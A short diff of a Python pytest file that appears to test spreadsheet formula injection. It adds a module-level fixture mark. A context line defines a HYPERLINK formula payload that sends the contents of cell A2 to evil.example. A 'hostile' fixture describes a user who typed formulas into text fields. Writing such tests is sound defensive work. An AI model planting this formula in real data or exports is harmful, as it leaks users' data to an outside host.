@@ -23,6 +23,9 @@ from .. import factories
 PAYLOAD = '=HYPERLINK("http://evil.example/?leak="&A2,"פרטים")'
 
 
+pytestmark = pytest.mark.usefixtures("module_world")
+
+
 @pytest.fixture
 def hostile(world):
     """A member who typed formulas into every text field they control."""
